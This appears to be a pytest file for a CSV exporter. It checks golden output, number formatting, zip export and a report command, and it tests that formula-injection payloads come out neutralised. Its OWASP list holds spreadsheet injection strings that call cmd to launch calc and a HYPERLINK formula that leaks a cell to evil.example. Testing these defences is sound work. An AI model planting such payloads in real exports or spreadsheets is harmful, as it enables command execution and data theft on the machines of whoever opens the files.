"""The CSV exporter: golden files byte for byte, OWASP's examples, and a property test of neutralising."""

import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from atlas.__main__ import run as main
from atlas.export import ENCODING, NUMERIC_TEXT, format_cell, neutralise, to_csv_bytes, with_provenance
from atlas.load import validate
from atlas.metrics import site_table
from tests.conftest import MINI

GOLDEN = Path(__file__).resolve().parents[1] / "golden"

# OWASP "CSV Injection" payloads: each must come out inert.
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"click")',
    "+2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(ENCODING), newline="")))


@pytest.mark.parametrize("payload", OWASP)
def test_owasp_payloads_are_neutralised(payload):
    cell = read_back(to_csv_bytes(pd.DataFrame({"x": [payload]})))[1][0]
    assert cell == "'" + payload
    assert cell[0] not in "=+-@\t\r\n"


def test_numbers_are_untouched_negative_ones_included():
    frame = pd.DataFrame({"n": [-5, 3], "f": [-2.5, 1e20], "t": ["-5", "+3.5"]})
    assert read_back(to_csv_bytes(frame))[1:] == [["-5", "-2.5", "-5"], ["3", "1e+20", "+3.5"]]


def test_unknown_is_empty_and_dates_are_iso():
    assert format_cell(pd.NA) == "" and format_cell(float("nan")) == "" and format_cell(None) == ""
    assert format_cell(pd.Timestamp("2025-06-11")) == "2025-06-11"


@given(st.text())
def test_neutralised_text_round_trips_through_the_csv_module(text):
    data = to_csv_bytes(pd.DataFrame({"col": [text]}))
    back = read_back(data)[1][0]
    assert back == neutralise(text)
    if back != text:
        assert back == "'" + text and text[0] in "=+-@\t\r\n"
    else:
        assert not text or text[0] not in "=+-@\t\r\n" or NUMERIC_TEXT.match(text)


@given(
    st.one_of(
        st.integers(min_value=-(10**12), max_value=10**12),
        st.floats(allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12),
    )
)
def test_numbers_survive_unchanged(number):
    back = read_back(to_csv_bytes(pd.DataFrame({"n": [number]})))[1][0]
    assert float(back) == float(number)


def test_golden_sites_csv(mini):
    sites = site_table(mini)[["site_id", "name", "country", "status", "gpu_count", "power_mw", "investment_eur"]]
    frame = with_provenance(sites, mini.claims, mini.sources, "site_id", "site", mini.as_of)
    assert to_csv_bytes(frame) == (GOLDEN / "mini_sites.csv").read_bytes()


def test_golden_hostile_csv():
    frame = pd.DataFrame(
        {"id": [1, 2, 3], "text": ["=1+1", 'quote " and, comma', "line\nbreak"], "value": [-1.5, None, 2]}
    )
    assert to_csv_bytes(frame) == (GOLDEN / "hostile.csv").read_bytes()


def test_export_zip_validates_and_is_complete(tmp_path):
    out = tmp_path / "atlas.zip"
    assert main(["export", "--zip", str(out), "--data-dir", str(MINI)]) == 0
    with zipfile.ZipFile(out) as archive:
        names = set(archive.namelist())
        archive.extractall(tmp_path / "unzipped")
    assert {"README.md", "datapackage.json", "sites.geojson", "claims.csv", "sources.csv"} <= names
    assert validate(tmp_path / "unzipped") == []
    readme = (tmp_path / "unzipped" / "README.md").read_text()
    assert "Data as of 2026-02-01" in readme and "Citation" in readme and "CC BY 4.0" in readme


def test_report_cli_writes_a_self_contained_file(tmp_path, capsys):
    out = tmp_path / "report.html"
    assert main(["report", str(out), "--query", "country=DEU&status=bogus", "--data-dir", str(MINI)]) == 0
    text = out.read_text()
    assert "window.PlotlyGeoAssets" in text and "<script src=" not in text
    assert "Munich Cloud" in text and "Paris Cluster" not in text
    assert "'status'" in capsys.readouterr().err
